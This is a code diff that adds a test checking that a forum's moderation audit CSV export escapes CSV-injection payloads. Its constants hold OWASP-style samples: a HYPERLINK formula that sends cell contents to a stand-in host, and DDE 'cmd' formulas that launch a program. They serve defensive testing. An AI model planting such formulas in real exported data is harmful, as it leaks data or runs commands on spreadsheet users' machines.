@@ -5,6 +5,7 @@ import { parse } from "csv-parse/sync";
 import mongoose from "mongoose";
 import type { AuditEntryView, AuditPage } from "@forum/shared";
 import { Event } from "../../server/src/models/Event.js";
+import { Post } from "../../server/src/models/Post.js";
 import { Thread } from "../../server/src/models/Thread.js";
 import { User } from "../../server/src/models/User.js";
 import { csrfAgent, DEMO, signedInAgent } from "../support/http.js";
@@ -244,6 +245,73 @@ describe("CSV export", () => {
         "203.0.113.7",
       ],
     ]);
+  });
+});
+
+describe("CSV export of text typed by people", () => {
+  // OWASP's CSV-injection examples: a spreadsheet runs text starting with = + - @ (or tab, CR) as a formula.
+  const DISPLAY_NAME = '=HYPERLINK("http://zly.example/?"&A1;"Kliknij")';
+  const LOCK_REASON = "=cmd|' /C calc'!A0";
+  const HIDE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0";
+  const SILENCE_REASON = "-2+3+cmd|' /C calc'!A0";
+
+  it("writes a display name from an account request and moderators' reasons as text, not formulas", async () => {
+    const visitor = await csrfAgent(server.url);
+    const requested = await visitor.post("/api/account-requests").send({
+      email: "formula.name@example.pl",
+      name: DISPLAY_NAME,
+      password: "Zielony-Rower-Pod-Wawelem-7",
+      jstTeryt: "1219053",
+      position: "Inspektor",
+      addresseeGroup: "pracownik_operacyjny",
+      message: "",
+    });
+    expect(requested.status).toBe(202);
+    const moderator = await moderatorAgent();
+    // Approved, the person signs in and changes the password: an audited security event with them as "Kto".
+    const requester = await User.findOne({ email: "formula.name@example.pl" }).lean();
+    expect((await moderator.post(`/api/account-requests/${String(requester?._id)}/approve`)).status).toBe(200);
+    const newcomer = await signedInAgent(server.url, "formula.name@example.pl", "Zielony-Rower-Pod-Wawelem-7");
+    const changed = await newcomer
+      .post("/api/me/password")
+      .send({ currentPassword: "Zielony-Rower-Pod-Wawelem-7", newPassword: "Czerwony-Tramwaj-Na-Kazimierzu-8" });
+    expect(changed.status).toBeLessThan(300);
+    expect((await moderator.put(`/api/threads/${ids.thread}/lock`).send({ reason: LOCK_REASON })).status).toBe(200);
+    const post = await Post.findOne({ threadId: ids.thread, number: 2 }).lean();
+    expect((await moderator.post(`/api/posts/${String(post?._id)}/hide`).send({ reason: HIDE_REASON })).status).toBe(
+      200,
+    );
+    const silenced = await User.findOne({ email: DEMO.memberA }).lean();
+    const silence = await moderator
+      .put(`/api/people/${String(silenced?.username)}/silence`)
+      .send({ reason: SILENCE_REASON, until: null });
+    expect(silence.status).toBe(200);
+
+    const response = await moderator
+      .get("/api/moderation/audit.csv")
+      .buffer(true)
+      .parse((res, callback) => {
+        const chunks: Buffer[] = [];
+        res.on("data", (chunk: Buffer) => chunks.push(chunk));
+        res.on("end", () => callback(null, Buffer.concat(chunks)));
+      });
+    expect(response.status).toBe(200);
+    const rows = parse((response.body as Buffer).toString("utf8"), { bom: true, columns: true }) as Record<
+      string,
+      string
+    >[];
+    const row = (code: string) => rows.find((entry) => entry["Kod czynności"] === code);
+    expect(row("users.request")?.["Czego dotyczy"]).toBe(`osoba: ${DISPLAY_NAME}`);
+    expect(row("users.changePassword")?.["Kto"]).toBe(`'${DISPLAY_NAME}`);
+    expect(row("threads.lock")?.["Powód"]).toBe(`'${LOCK_REASON}`);
+    expect(row("posts.hide")?.["Powód"]).toBe(`'${HIDE_REASON}`);
+    expect(row("users.silence")?.["Powód"]).toBe(`'${SILENCE_REASON}`);
+    for (const entry of rows)
+      for (const cell of Object.values(entry)) expect([cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);
+
+    await moderator.delete(`/api/threads/${ids.thread}/lock`);
+    await moderator.post(`/api/posts/${String(post?._id)}/restore`);
+    await moderator.delete(`/api/people/${String(silenced?.username)}/silence`);
   });
 });
 
